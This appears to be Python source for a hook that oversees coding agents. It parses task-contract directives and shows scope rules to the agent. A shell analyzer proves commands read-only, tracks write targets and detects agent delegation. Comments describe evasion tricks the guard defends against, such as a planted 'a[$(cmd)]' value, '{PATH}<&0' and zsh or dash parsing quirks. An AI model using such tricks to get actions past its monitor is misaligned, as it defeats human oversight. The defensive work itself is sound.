    for rule, mode, source, needs in _CORRECTIONS:
        if needs is not None and previous_mode not in needs:
            continue
        pattern = _rx(rule)
        found = pattern.match(prose) if rule in _ANCHORED_RULES else pattern.search(prose)
        if found:
            result = _normalized(contract)
            result["mode"] = mode
            if result["level"] == "watch":
                result["level"] = "guard"  # off stays off: a correction never re-arms
            result["source"] = source
            return _hold_invariant(result)
    return None


def has_directive_mention(text: str) -> bool:
    """True when the text starts with a `$stop-that-shit` mention: only the first
    non-empty line counts, indented by at most three spaces."""
    return isinstance(text, str) and _rx("mention").match(text) is not None


def interpret_prompt(contract: dict, text: str) -> PromptOutcome:
    """Apply a directive, else a natural-language correction, in `text` to `contract`.

    Callers check parse_inspection_command first: here `status` is just an
    unknown directive token.
    """
    head = _directive_head(text) if isinstance(text, str) else None
    if head is not None:
        try:
            given = _parse_fields(head)
        except _DirectiveError as err:
            return PromptOutcome("error", _copy(contract), dict(err.info))
        result = _apply_directive(contract, given)
        return PromptOutcome("directive", result, None, result != contract)
    if isinstance(text, str):
        corrected = _correction(contract, text)
        if corrected is not None:
            return PromptOutcome("correction", corrected, None, corrected != contract)
    return PromptOutcome("plain", _copy(contract))


def _copy(contract: dict) -> Dict[str, Any]:
    copied = dict(contract)
    if isinstance(copied.get("allowedPaths"), list):
        copied["allowedPaths"] = list(copied["allowedPaths"])
    return copied


def parse_inspection_command(text: str) -> Optional[Tuple[str, ...]]:
    """('status',) ('runtime', 'this'|'all') ('explain', evt) ('label', evt, label) or None."""
    if not isinstance(text, str):
        return None
    found = _rx("inspection").match(text)
    if found is None:
        return None
    (status, runtime, runtime_all, explain, explain_id,
     label, label_id, label_value) = found.groups()
    if status:
        return ("status",)
    if runtime:
        return ("runtime", "all" if runtime_all else "this")
    if explain:
        return ("explain", explain_id.lower())
    return ("label", label_id.lower(), label_value.lower())


# ---- contract context -------------------------------------------------------

_OFF_TEXT = "Stop That Shit is off for this session; it enforces no decision."
_UNCONFIRMED_TEXT = (
    "Stop That Shit is only watching: no task mode has been confirmed. "
    "Ask the user for `$stop-that-shit review` (read-only work) or "
    "`$stop-that-shit change` (implementation); until then the fast path rests on "
    "the Stop Ladder, not on a full contract. "
    "Do not claim that changes are blocked before a mode is confirmed."
)
_LADDER_TEXT = (
    "Stop Ladder before any step: Was it requested? Is it necessary? "
    "What reachable evidence proves it? Would leaving it out fail the current acceptance? "
    "Report real findings even when you lack the authority to implement them. "
    "Before widening the scope, name the reachable evidence, the failure if the step "
    "is left out, and the fact that changes the next action. "
    "Interception is a guardrail, not a security boundary."
)


def budget_text(budget: Any) -> str:
    """An agent budget as a person reads it: the number, or `unlimited` for the
    2**53 - 1 that stands for no limit (and for a damaged value, read the same way).
    JSON for scripts keeps the number."""
    if not _is_int(budget) or budget == MAX_SAFE_INTEGER:
        return "unlimited"
    return str(budget)


def contract_fields(contract: dict, reserved: int, count_unproven: bool) -> str:
    """The `mode=...; agents=...; hash=...; deps=...; files=...` line of the
    contract context (also used by `status`); an unlimited budget reads
    `agents=0/unlimited`, never the 16-digit number."""
    paths = contract.get("allowedPaths")
    files = "|".join(paths) if isinstance(paths, list) else "unbounded"
    return "mode=%s; agents=%d/%s reserved%s; hash=%s; deps=%s; files=%s." % (
        contract.get("mode", DEFAULT_CONTRACT["mode"]), reserved,
        budget_text(contract.get("agentBudget")),
        "; count unproven" if count_unproven else "",
        contract.get("hashPolicy", DEFAULT_CONTRACT["hashPolicy"]),
        contract.get("dependencyPolicy", DEFAULT_CONTRACT["dependencyPolicy"]), files)


def directive_error_text(error: Optional[dict]) -> str:
    """`<CODE>: <message>` for a rejected directive."""
    error = error or {}
    code = error.get("code") or "INVALID_DIRECTIVE"
    message = error.get("message") or "unknown directive error"
    return "%s: %s" % (code, message)


def contract_context(contract: dict, reserved: int, count_unproven: bool,
                     storage_error: Optional[dict] = None, *,
                     warning: Optional[str] = None) -> str:
    """The one-line contract context the agent sees when it changes.

    `warning` is the reserved `directiveWarning` slot; nothing sets it yet.
    """
    if storage_error:
        return "%s: %s" % (storage_error.get("code"), storage_error.get("message"))
    if contract.get("level") == "off":
        text = _OFF_TEXT
    elif contract.get("mode", "unconfirmed") == "unconfirmed":
        text = _UNCONFIRMED_TEXT
    else:
        text = "Stop That Shit (active): %s %s" % (
            contract_fields(contract, reserved, count_unproven), _LADDER_TEXT)
    return "Warning: %s %s" % (warning, text) if warning else text


###############################################################################
# Analysis
#
# Owns everything that reads commands and content: the shell lexer/parser and
# read-only proof, PowerShell's conservative reading, hash-intent and
# dependency-intent detection in commands, patches and file writes, and patch
# path extraction.  Pure functions; every adapter calls these.  A command is
# "read" only when every part of it is proven read-only; anything not proven
# is "unknown", never a guess (a false read is a security bug).
###############################################################################

# Public interface (what adapters call):
#   analyze_shell(command, shell)      -> ShellAnalysis (read only when proven)
#   analyze_patch(text, v4a=False)     -> PatchSummary (paths, added text, intents)
#   hash_intent_in_text(added, path, removed_text=None)
#   dependency_intent_in_change(path, old, new), manifest_kind(path)
# Trust boundary: configuration and session state (git
# config such as core.fsmonitor or diff.external, .ripgreprc, PATH,
# aliases and functions defined earlier in a persistent shell, zsh options
# and cdpath set in a startup file) are not seen here; commands that change
# them are reported as state_change.  CDPATH in the hook's own environment
# is seen: with it a bare `cd name` may lead anywhere.


class ShellAnalysis(Record):
    """Verdict on one shell command line.

    mutability is "read" only when every simple command is proven read-only.
    write_targets lists the paths the line provably writes (redirections,
    tee, cp/mv/rm/... targets) when they can be established.
    write_patterns lists glob patterns (fnmatch syntax, `[*]` for a literal
    star; a `**` component stands for any number of components) for targets
    written with a glob or a brace list, and for everything below a folder
    a command removes or changes as a whole (`rm -r d` gives d/**).
    unknown_target is True when the line also writes somewhere the analyzer
    could not establish (a variable, a substitution, `~user`, a folder it
    cannot follow): such a write may land on any path.
    starts_agent names the coding agent CLI the line starts (`claude -p`,
    `codex exec`, `opencode run`, ...; "?" for a program named by a variable
    or substitution, which may be one): a delegation the host never sees.
    resumes_session: that agent is told to continue an existing session, so
    the text given to it arrives there as a prompt.
    """

    __slots__ = FIELDS = ('mutability', 'reason', 'hash_intent', 'dependency_intent',
                          'write_targets', 'unknown_target', 'starts_agent', 'resumes_session',
                          'write_patterns')
    DEFAULTS = {'reason': None, 'hash_intent': False, 'dependency_intent': False,
                'write_targets': list, 'unknown_target': False, 'starts_agent': None,
                'resumes_session': False, 'write_patterns': list}

    mutability: str
    reason: Optional[str]
    hash_intent: bool
    dependency_intent: bool
    write_targets: List[str]
    unknown_target: bool
    starts_agent: Optional[str]   # the coding agent the line starts (`claude`, `codex`, ...)
    resumes_session: bool         # ...on an existing session, which the prompt then reaches
    write_patterns: List[str]


_MAX_COMMAND = 64 * 1024  # longer commands are not analysed (analysis_limit)
_MAX_DEPTH = 32
_RANK = {"read": 0, "unknown": 1, "write": 2}
_RE_CACHE: Dict[str, Any] = {}


def _an_rx(key: str, pattern: str, flags: int = 0) -> Any:
    """Compile on first use: most hook runs never need a given pattern."""
    rx = _RE_CACHE.get(key)
    if rx is None:
        import re
        rx = _RE_CACHE[key] = re.compile(pattern, flags)
    return rx


class _Give(Exception):
    """Raised anywhere inside the analyzer to stop with a non-read verdict."""

    def __init__(self, reason: str, mut: str = "unknown", why: Optional[tuple] = None) -> None:
        Exception.__init__(self, reason)
        self.reason = reason
        self.mut = mut
        self.why = why   # see _V.why

    def verdict(self) -> "_V":
        v = _V(self.mut, self.reason)
        v.why = self.why
        return v


class _V:
    """Verdict of one simple command (or of a whole line once combined).

    Write targets come in three kinds: `targets`, paths as written;
    `patterns`, glob patterns (see _glob_escape) any path matching which may
    be written, where a `**` component stands for any number of components;
    and `pending`, words not resolved yet, with whether everything under
    them is at stake (a removal).  `_Flow` resolves pending words once it
    knows the line's variables; a word it cannot resolve sets `opaque`.

    why names the part that made it a write or unknown, as a small tuple the
    culprit text is made of on a deny, e.g. ("option", "-i") or ("writer",
    "rm"); None where the reason and the command say enough.  It follows the
    verdict that decides, like the reason.
    """

    __slots__ = ("mut", "reason", "targets", "hash", "dep", "opaque", "why", "cd", "agent",
                 "resume", "patterns", "pending")

    def __init__(self, mut: str = "read", reason: Optional[str] = None,
                 targets: Optional[List[str]] = None, hash_: bool = False,
                 dep: bool = False) -> None:
        self.mut = mut
        self.reason = reason
        self.targets = targets if targets is not None else []
        self.hash = hash_
        self.dep = dep
        # Some write target could not be established (see ShellAnalysis.unknown_target).
        self.opaque = False
        # How the command moves the shell it runs in (cd, pushd, eval...): a
        # move of the drivers section ("to", folder), ("places", [...]) ... or None.
        self.cd: Optional[Tuple[Any, ...]] = None
        self.why: Optional[tuple] = None
        # The coding agent this line starts (see ShellAnalysis.starts_agent), and
        # whether it resumes an existing session of it.
        self.agent: Optional[str] = None
        self.resume = False
        self.patterns: List[str] = []
        self.pending: List[Tuple[_W, bool]] = []

    def join(self, other: "_V") -> "_V":
        """Worst verdict wins; the reason is the first one at that level."""
        if _RANK[other.mut] > _RANK[self.mut]:
            self.mut, self.reason, self.why = other.mut, other.reason, other.why
        elif other.mut == self.mut:
            if self.reason is None:
                self.reason = other.reason
            if self.why is None:
                self.why = other.why
        if other.targets:
            self.targets.extend(other.targets)
        if other.patterns:
            self.patterns.extend(other.patterns)
        if other.pending:
            self.pending.extend(other.pending)
        self.hash = self.hash or other.hash
        self.dep = self.dep or other.dep
        self.opaque = self.opaque or other.opaque
        self.agent = self.agent or other.agent
        self.resume = self.resume or other.resume
        return self

    def add(self, target: Any, tree: bool = False) -> "_V":
        """One write target: a path (str) or a shell word.  tree: the
        command also changes or removes everything below it (rm -r, mv of
        a folder, chmod -R), so a folder holding a guard file is hit even
        when it is the working folder."""
        if isinstance(target, _W):
            if target.static and not target.text.startswith("~"):
                target = target.text
            else:
                self.pending.append((target, tree))   # `~user` is resolved there too
                return self
        if target.startswith("~") and target.split("/", 1)[0] != "~":
            self.opaque = True   # ~user, ~+, ~-: the guard does not expand these
            return self
        if target:
            self.targets.append(target)
            if tree:
                self.patterns.append(_glob_escape(target).rstrip("/") + "/**")
        return self

    def cap(self, reason: str, why: Optional[tuple] = None) -> "_V":
        """A wrapper we cannot see through: a write stays a write, a read becomes unknown."""
        if self.mut == "read":
            self.mut, self.reason, self.why = "unknown", reason, why
        return self

    def blame(self, *why: Any) -> "_V":
        """Name the part that decided (see `why`); returns self for chaining."""
        self.why = why
        return self


def _an_read() -> _V:
    return _V()


def _unknown(reason: str = "shell_command_unproven", *why: Any) -> _V:
    v = _V("unknown", reason)
    if why:
        v.why = why
    return v


def _write(targets: Optional[List[Any]] = None, reason: Optional[str] = None,
           tree: bool = False) -> _V:
    """A write to `targets` (paths or shell words; see _V.add)."""
    v = _V("write", reason)
    for target in targets or ():
        v.add(target, tree)
    return v


def _glob_escape(path: str) -> str:
    """A path as a pattern that matches only itself: `*`, `?` and `[` are
    bracketed, the form fnmatch reads."""
    if not any(ch in path for ch in "*?["):
        return path
    return "".join("[%s]" % ch if ch in "*?[" else ch for ch in path)


# ---- words ------------------------------------------------------------------


class _W:
    """One shell word after quote removal.

    text is the static value (dynamic pieces stand as NUL).  dyn: holds an
    expansion; split: an unquoted expansion that may split into several
    words; glob: unquoted pattern or brace characters; lead: the first
    character is a static literal other than '-', so whatever the word
    expands to cannot be taken for an option.
    """

    __slots__ = ("text", "dyn", "split", "glob", "lead", "quoted", "exp")

    def __init__(self, text: str, dyn: bool = False, split: bool = False, glob: bool = False,
                 lead: bool = True, quoted: bool = False,
                 exp: Optional[List[Tuple[Any, bool]]] = None) -> None:
        self.text = text
        self.dyn = dyn
        self.split = split
        self.glob = glob
        self.lead = lead
        self.quoted = quoted
        # One (expansion, inside double quotes) pair per NUL of text, in
        # order; None when the word was not read by the parser.  An
        # expansion is ("var", NAME, default word or None), ("sub", source
        # of the command) or ("other",).  Write targets are resolved from it.
        self.exp = exp

    @property
    def static(self) -> bool:
        return not (self.dyn or self.glob)

    @property
    def opaque(self) -> bool:
        """True when the runtime word may start with '-' or become several words."""
        if self.dyn and (self.split or not self.lead):
            return True
        return self.glob and not self.lead

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return "W(%r%s)" % (self.text, "*" if not self.static else "")


def _lit(text: str) -> _W:
    return _W(text, lead=not text.startswith("-"))


# ---- write targets ----------------------------------------------------------
#
# A write target written with a glob, a brace list, a variable or a command
# substitution is resolved as far as it can be, into paths and glob
# patterns; the rest is unknown (ShellAnalysis.unknown_target).  Variables:
# HOME, TMPDIR, TMP and TEMP are read from the hook's own environment,
# which is the host's, as the shell's is (`~` has always been read the same
# way); PWD is the working folder.  A variable the line itself sets (a loop
# list, a plain NAME=value, export/declare NAME=value) may hold any value
# it is given there or its value from that same environment.  Every other
# variable, and every substitution but $(pwd) and a plain $(mktemp), is
# unknown: its value comes from where the guard cannot look.
_TRUSTED_VARS = frozenset(("HOME", "TMPDIR", "TMP", "TEMP"))
_MAX_TARGET_FORMS = 64   # brace and loop combinations kept per word; more is unknown
_IFS_CHARS = " \t\n"


def _brace_expand(text: str) -> Optional[List[str]]:
    """bash brace expansion of `text` (NULs stand for expansions): comma
    lists give each alternative, sequences `{a..z}` stand as `*`.  None
    when there would be more than _MAX_TARGET_FORMS results."""
    start = text.find("{")
    while start >= 0:
        depth, j, commas = 0, start, []
        while j < len(text):
            if text[j] == "{":
                depth += 1
            elif text[j] == "}":
                depth -= 1
                if depth == 0:
                    break
            elif text[j] == "," and depth == 1:
                commas.append(j)
            j += 1
        if j >= len(text):
            return [text]
        body = text[start + 1:j]
        head, tail = text[:start], text[j + 1:]
        if commas:
            cuts = [start] + commas + [j]
            parts = [text[a + 1:b] for a, b in zip(cuts, cuts[1:])]
        elif ".." in body:
            parts = ["\x02"]   # a sequence: any word (see _word_paths)
        else:
            start = text.find("{", start + 1)
            continue
        out: List[str] = []
        for part in parts:
            more = _brace_expand(head + part + tail)
            if more is None or len(out) + len(more) > _MAX_TARGET_FORMS:
                return None
            out.extend(more)
        return out
    return [text]


def _var_values(name: str, default: Optional[str], ctx: "_Ctx",
                depth: int) -> Optional[List[Tuple[str, bool]]]:
    """The values `$name` (or `${name:-default}`) may have, each as
    (text, is a pattern); None when unknown."""
    line_sets = ctx.vars is not None and name in ctx.vars
    if ctx.vars_unknown:
        return None     # eval, source, read NAME...: any variable may change
    if name == "PWD" and not line_sets:
        return [(".", False)]
    if not (name in _TRUSTED_VARS or line_sets):
        return None
    initial = os.environ.get(name, "")
    values = [(_glob_escape("./" + initial if initial.startswith("~") else initial), False)]
    if line_sets:
        assigned = ctx.vars[name]
        if assigned is None or depth > 2:
            return None
        for word in assigned:
            more = _word_paths(word, ctx, depth + 1)
            if more is None:
                return None
            values.extend(more)
    if default is not None:
        default = "./" + default if default.startswith("~") else default
        values = [v for v in values if v[0]] + [(_glob_escape(default), False)]
    return values


def _sub_values(source: str) -> Optional[List[Tuple[str, bool]]]:
    """$(pwd) is the working folder; $(mktemp) and $(mktemp -d) name a new
    entry of the temporary folder.  Any other substitution is unknown."""
    words = source.strip().split()
    if words == ["pwd"]:
        return [(".", False)]
    if words and words[0] == "mktemp" and all(
            w in ("-d", "-q", "-u", "--directory", "--quiet", "--dry-run") for w in words[1:]):
        base = os.environ.get("TMPDIR") or "/tmp"
        return [(_glob_escape(base.rstrip("/")) + "/*", True)]
    return None


def _word_paths(w: _W, ctx: "_Ctx", depth: int = 0) -> Optional[List[Tuple[str, bool]]]:
    """The paths a shell word may name when it is written to: a list of
    (text, is a pattern), patterns in the form of _glob_escape; None when
    it cannot be established (a variable or substitution of unknown value,
    `~user`, too many forms)."""
    text = w.text
    if w.static:
        return [(text, False)] if text else []
    exps = w.exp or []
    if text.count("\0") != len(exps) or (w.glob and ctx.globs_unknown) or (
            w.dyn and not exps):
        return None   # (dynamic without an expansion: zsh's =cmd, a process substitution)
    # Unquoted expansions split at IFS: if the line sets IFS, at what is unknown.
    if ctx.vars and "IFS" in ctx.vars and any(not quoted for _, quoted in exps):
        return None
    forms = _brace_expand(text) if w.glob else [text]
    if forms is None:
        return None
    out: List[Tuple[str, bool]] = []
    for form in forms:
        # Each form is a list of candidate (pattern, has wildcards) built
        # piece by piece; an expansion may multiply them.
        cands: List[Tuple[str, bool]] = [("", False)]
        k = 0
        for ch in form:
            if ch == "\0":
                (exp, quoted), k = exps[k], k + 1
                if exp[0] == "var":
                    values = _var_values(exp[1], exp[2], ctx, depth)
                elif exp[0] == "sub":
                    values = _sub_values(exp[1])
                else:
                    values = None
                if values is None:
                    return None
                for value, _ in values:
                    if not quoted and any(c in value for c in _IFS_CHARS):
                        return None   # split into several words
                grown = [(c + v, p or vp) for c, p in cands for v, vp in values]
                if len(grown) > _MAX_TARGET_FORMS:
                    return None
                cands = grown
            elif ch == "\x02":
                cands = [(c + "*", True) for c, _ in cands]
            elif ch in "*?[":
                # Pattern characters of the word itself (quoted ones are
                # taken as patterns too: that only widens the match).
                active = w.glob and (ch != "[" or "]" in form)
                cands = [(c + (ch if active else "[%s]" % ch), p or active) for c, p in cands]
            else:
                cands = [(c + ch, p) for c, p in cands]
        for cand, is_pattern in cands:
            if form.startswith("~"):
                head = cand.split("/", 1)[0]
                if head == "~+":
                    cand = "." + cand[2:]
                elif head != "~":
                    return None    # ~user, ~-, ~N: a folder the guard cannot know
            # (A value that starts with ~ came from a word the shell already
            # expanded, or is written ./~ when it is a plain name.)
            if cand:
                out.append((cand, is_pattern))
    return out


_STDIN_ITEM = _W("\0", dyn=True, split=True, lead=False)  # what xargs/find feed in


class _Cmd:
    """One simple command.  src[start:end] is its source text (with any
    leading reserved word such as `then`), kept so that a denial can quote it."""

    __slots__ = ("words", "assigns", "redirs", "stdin", "stdin_literal", "src", "start", "end",
                 "attached", "zsh_drop", "piped")

    def __init__(self, src: str = "", start: int = 0) -> None:
        self.words: List[_W] = []
        self.assigns: List[Tuple[str, _W]] = []
        self.redirs: List[Tuple[str, Optional[_W]]] = []
        self.stdin: Optional[str] = None   # heredoc body
        self.stdin_literal = False         # the delimiter was quoted: no expansion in the body
        self.src = src
        self.start = self.end = start
        # Redirections of a group, `( ... ) > f` or `$(< f)`: not a command of its own.
        self.attached = False
        # Words bash and sh take as arguments but zsh as a redirection target (`>! f`).
        self.zsh_drop: List[_W] = []
        # A later stage of a pipeline: zsh (MULTIOS, on by default) feeds it
        # the pipe and then its own `<`, `<<` or `<<<`, one after the other.
        self.piped = False

    def empty(self) -> bool:
        return not (self.words or self.assigns or self.redirs)


# ---- characters -------------------------------------------------------------

# NUL, C0 controls other than TAB/LF/CR, DEL, C1 (NEL included), Unicode
# spaces other than U+0020, bidi controls and zero-width characters: shells
# and terminals disagree about them, so they are refused outright.
_BAD_CHARS = ("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u00a0\u1680\u2000-\u200f"
              "\u2028-\u202f\u205f-\u206f\u3000\ufeff\u061c]")


def _has_bad_char(text: str) -> bool:
    return _an_rx("bad", _BAD_CHARS).search(text) is not None


_ANSI_SIMPLE = {"a": "\a", "b": "\b", "e": "\x1b", "E": "\x1b", "f": "\f", "n": "\n",
                "r": "\r", "t": "\t", "v": "\v", "\\": "\\", "'": "'", '"': '"', "?": "?"}


def _ansi_c(body: str) -> str:
    """Decode the inside of $'...' the way bash does; odd escapes give up."""
    out = []
    i, n = 0, len(body)
    while i < n:
        c = body[i]
        if c != "\\":
            out.append(c)
            i += 1
            continue
        i += 1
        if i >= n:
            raise _Give("shell_syntax_unproven")
        c = body[i]
        if c in _ANSI_SIMPLE:
            out.append(_ANSI_SIMPLE[c])
            i += 1
        elif c in "xuU":
            limit = {"x": 2, "u": 4, "U": 8}[c]
            j = i + 1
            while j < n and j - i - 1 < limit and body[j] in "0123456789abcdefABCDEF":
                j += 1
            if j == i + 1:
                raise _Give("shell_syntax_unproven")
            out.append(chr(int(body[i + 1:j], 16)))
            i = j
        elif c in "01234567":
            j = i
            while j < n and j - i < 3 and body[j] in "01234567":
                j += 1
            out.append(chr(int(body[i:j], 8) & 0xFF))
            i = j
        elif c == "c" and i + 1 < n:
            out.append(chr(ord(body[i + 1]) & 0x1F))
            i += 2
        else:
            raise _Give("shell_syntax_unproven")
    text = "".join(out)
    if _has_bad_char(text.replace("\t", " ").replace("\n", " ")):
        raise _Give("control_character")
    return text


# ---- bash parser ------------------------------------------------------------
#
# One reader for every POSIX shell a host may run a command in: bash, zsh
# (the login shell on macOS, which Codex and Claude Code use) and sh (dash
# on Debian and Ubuntu).  No event says which one runs, so a line is proven
# read only when it reads in each.  Where zsh expands what bash leaves alone
# ($~x globs a value, $=x splits it, $x[...] evaluates arithmetic that may
# assign, `=cmd` looks up a path, `<1-9>` globs numbers, a bare `< f` runs
# $READNULLCMD, `}` ends a group anywhere) the form is refused or read the
# way that covers both; where dash differs ($'...' is `$` then a quoted
# string, `a &> f` is `a &` then `> f`) the line is read a second time as
# dash reads it.  zsh options a user turns on in a startup file
# (EXTENDED_GLOB, GLOB_SUBST, SH_WORD_SPLIT...) are configuration, like
# aliases: a line that turns one on itself is refused (setopt, emulate).

_META = " \t\n;&|()<>"
_RESERVED_SKIP = frozenset(("{", "}", "!", "if", "then", "elif", "else", "fi", "do", "done",
                            "while", "until"))
_RESERVED_REFUSE = frozenset(("case", "esac", "select", "function", "coproc", "[[", "]]", "in"))
_PARAM_OK = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_#%:-/.*?@+^,")
_ARITH_OK = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_ +-*/%()<>!&|^~?:\t")
_NAME_START = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ_")
_NAME_CHARS = _NAME_START | frozenset("0123456789")


def _is_name(text: str) -> bool:
    return bool(text) and text[0] in _NAME_START and all(c in _NAME_CHARS for c in text)


# Lower-case names the shell gives a meaning (zsh ties path to PATH, cdpath,
# fpath...; *_proxy are exported by convention): never a harmless variable.
_SPECIAL_LOWER = frozenset((
    "path", "cdpath", "fpath", "manpath", "mailpath", "module_path", "psvar", "fignore",
    "watch", "histchars", "auto_resume", "prompt", "argv", "status", "pipestatus", "signals",
    "aliases", "builtins", "commands", "functions", "options", "parameters", "nameddirs",
    "userdirs", "dirstack", "history", "historywords", "modules", "reswords", "mapfile",
    "galiases", "saliases", "terminfo", "termcap", "widgets", "keymaps", "zle_bracketed_paste",
))


def _plain_var(text: str) -> bool:
    """A variable a loop or `read` may set without changing how later
    commands run: lower case, not special to bash or zsh, not `_`-prefixed.
    Upper-case names (PATH, HOME, IFS, PS4, BASH_ENV, GIT_*...) are refused."""
    return (_is_name(text) and text == text.lower() and not text.startswith("_")
            and text not in _SPECIAL_LOWER and not text.endswith("_proxy"))


def _arith_end(s: str, start: int) -> int:
    """Index of the `))` closing `$((` whose body starts at `start`, or -1.

    bash reads `$((a)|(b))` as a command substitution holding two subshells,
    not as arithmetic: the body is arithmetic only when its parentheses
    balance and the first unmatched `)` is followed by another `)`.
    """
    depth = 0
    j, n = start, len(s)
    while j < n:
        ch = s[j]
        if ch == "(":
            depth += 1
        elif ch == ")":
            if depth == 0:
                return j if s.startswith("))", j) else -1
            depth -= 1
        j += 1
    return -1


def _arith_static(expr: str) -> bool:
    """Only numbers, no variable names: bash evaluates a name's value as an
    expression in turn, and a value like `a[$(cmd)]` (easy to plant in `$_`
    with `echo 'a[$(cmd)]'`) runs cmd.  `++`/`--` would also assign."""
    word = ""
    for ch in expr + " ":
        if ch in _NAME_CHARS:
            word += ch
            continue
        if word and not word[0].isdigit():
            return False
        word = ""
    return True


def _param_safe(body: str) -> bool:
    """${...} forms that cannot run code: no transformation operator after
    the name (${x@P} expands its value like a prompt, with $(...) inside)
    and no variable names in a ${x:offset:length} substring (arithmetic)."""
    if "@" in body[1:]:
        return False
    j = 1 if body[0] == "#" and len(body) > 1 else 0
    if j < len(body) and body[j] in _NAME_START:
        while j < len(body) and body[j] in _NAME_CHARS:
            j += 1
    elif j < len(body):
        j += 1
    rest = body[j:]
    if rest.startswith(":") and not rest.startswith((":-", ":=", ":?", ":+")):
        return _arith_static(rest[1:].replace(":", " "))
    return True


def _param_expansion(body: str) -> Tuple[Any, ...]:
    """What `${body}` stands for, as far as a write target needs it:
    ("var", NAME, None) for ${NAME} and ${NAME:?msg}; ("var", NAME, WORD)
    for ${NAME:-WORD}, ${NAME-WORD}, ${NAME:=WORD} and ${NAME=WORD} with a
    plain WORD; ("other",) for every other form (lengths, substrings,
    pattern removal and replacement, case changes, ${NAME:+WORD})."""
    j = 0
    while j < len(body) and body[j] in _NAME_CHARS:
        j += 1
    name, rest = body[:j], body[j:]
    if not _is_name(name):
        return ("other",)
    if not rest or rest.startswith(("?", ":?")):
        return ("var", name, None)
    for op in (":-", ":=", "-", "="):
        if rest.startswith(op):
            word = rest[len(op):]
            if any(ch in word for ch in "*?#%^,@+:") or "\0" in word:
                return ("other",)
            return ("var", name, word)
    return ("other",)


class _Bash:
    """A recursive-descent reader for a POSIX/bash subset: quoting, operators,
    substitutions, subshells, compound commands, redirections and heredocs.

    It never executes or expands anything: every simple command, including
    those inside substitutions, subshells and compound commands, is
    collected flat in `items`; the line is read only if each one is.  Marks
    between them keep the shape that decides where a command runs: the
    separators `;` `&&` `||` `|` `&`, `(` `)` around a subshell, `$(` `$)`
    around a substitution, and the reserved words { } ! if then elif else
    fi while until for do done.  dash=True reads the line as dash does.
    """

    def __init__(self, src: str, depth: int, dash: bool = False) -> None:
        if depth > _MAX_DEPTH:
            raise _Give("analysis_limit")
        self.s = src
        self.n = len(src)
        self.i = 0
        self.depth = depth
        self.dash = dash
        self.items: List[Any] = []   # _Cmd, a ready _V, or a mark (a str)
        self.heredocs: List[Tuple[str, bool, bool, _Cmd]] = []
        self.exp: Any = ("other",)   # the expansion _dollar/_backtick last read
        # Loop variable -> the words of its list (None: "$@" or unreadable).
        self.loops: Dict[str, Optional[List[_W]]] = {}

    # ---- driver -------------------------------------------------------------
    def parse(self) -> List[Any]:
        self._list(None, 0)
        if self.heredocs:
            raise _Give("shell_syntax_unproven")
        return self.items

    def _list(self, closer: Optional[str], nest: int) -> None:
        """Read commands until `closer` (')' or '`' handled by callers) or the end."""
        s, n = self.s, self.n
        cmd = _Cmd(s, self.i)
        need_cmd = False      # after | && || a command must follow
        had_cmd = False       # something since the last separator
        at_start = True       # next word is in command position
        while True:
            c = s[self.i] if self.i < n else ""
            if c in (" ", "\t"):
                self.i += 1
                continue
            if c == "\\" and s.startswith("\\\n", self.i):
                self.i += 2
                continue
            if c == "":
                if closer is not None or need_cmd:
                    raise _Give("shell_syntax_unproven")
                self._finish(cmd)
                return
            if c == "#" :
                while self.i < n and s[self.i] != "\n":
                    self.i += 1
                continue
            if c == "\n":
                self._finish(cmd)
                self.i += 1
                cmd = _Cmd(s, self.i)
                self._read_heredocs()
                if not need_cmd:
                    self.items.append(";")
                had_cmd = had_cmd and need_cmd
                at_start = True
                continue
            if c == ")":
                if closer != ")" or need_cmd:
                    raise _Give("shell_syntax_unproven")
                self._finish(cmd)
                self.i += 1
                return
            if c == "(":
                if not cmd.empty() or not at_start or cmd.attached:
                    raise _Give("shell_syntax_unproven")
                if s.startswith("((", self.i):
                    raise _Give("shell_syntax_unproven")
                if nest + 1 > _MAX_DEPTH or self.depth + nest + 1 > _MAX_DEPTH:
                    raise _Give("analysis_limit")
                self.i += 1
                start = len(self.items)
                self.items.append("(")
                self._list(")", nest + 1)
                if len(self.items) == start + 1:
                    # `()` is no subshell: zsh reads `() { ... }` as a function it runs at once.
                    raise _Give("shell_syntax_unproven")
                self.items.append(")")
                # Redirections may follow the group; words may not.
                cmd = _Cmd(s, self.i)
                cmd.attached = True
                at_start = False
                had_cmd, need_cmd = True, False
                continue
            if c in ";&|":
                end = self.i
                op = self._operator()
                if op in ("&>", "&>>") and self.dash:
                    # dash has no `&>`: `a &> f` runs a in the background, then `> f`.
                    self.i -= len(op) - 1
                    op = "&"
                if op in ("&>", "&>>"):
                    self._redirection(cmd, op)
                    at_start = False
                    continue
                if op == ";;" or op == ";&" or op == ";;&":
                    raise _Give("shell_syntax_unproven")
                if cmd.empty() and not had_cmd:
                    raise _Give("shell_syntax_unproven")
                self._finish(cmd, end)
                self.items.append("|" if op == "|&" else op)
                cmd = _Cmd(s, self.i)
                had_cmd = False
                need_cmd = op in ("|", "||", "&&", "|&")
                at_start = True
                continue
            if c in "<>" or (c.isdigit() and self._fd_redirect_ahead()):
                op = self._redir_op()
                self._redirection(cmd, op)
                at_start = False
                continue
            if cmd.attached:
                # After `)`, `}`, `fi` or `done` only a redirection, a separator or
                # a reserved word may follow: `(ls) rm x` is no command.
                save = self.i
                word = self._word()
                if not (word.static and not word.quoted and word.text in _RESERVED_SKIP):
                    raise _Give("shell_syntax_unproven")
                self.i = save
                at_start = True
            if at_start:
                name = self._assignment_name()
                if name is not None:
                    # NAME=value: the value is read once, as its own word.
                    value = _W("", quoted=True) if self.i >= n or s[self.i] in _META \
                        else self._word()
                    cmd.assigns.append((name, value))
                    had_cmd, need_cmd = True, False
                    continue
            word = self._word()
            if self.i < n and s[self.i] in "<>" and not word.quoted and word.static \
                    and word.text.startswith("{") and word.text.endswith("}") \
                    and _is_name(word.text[1:-1]):
                # `{NAME}>&-` stores a descriptor number in NAME, and keeps it
                # after a builtin: `true {PATH}<&0` makes PATH "10", a relative dir.
                raise _Give("state_change")
            if at_start and not word.quoted and word.static:
                text = word.text
                if text in _RESERVED_SKIP:
                    if not cmd.empty():
                        raise _Give("shell_syntax_unproven")
                    self.items.append(text)
                    had_cmd = text in ("}", "fi", "done")
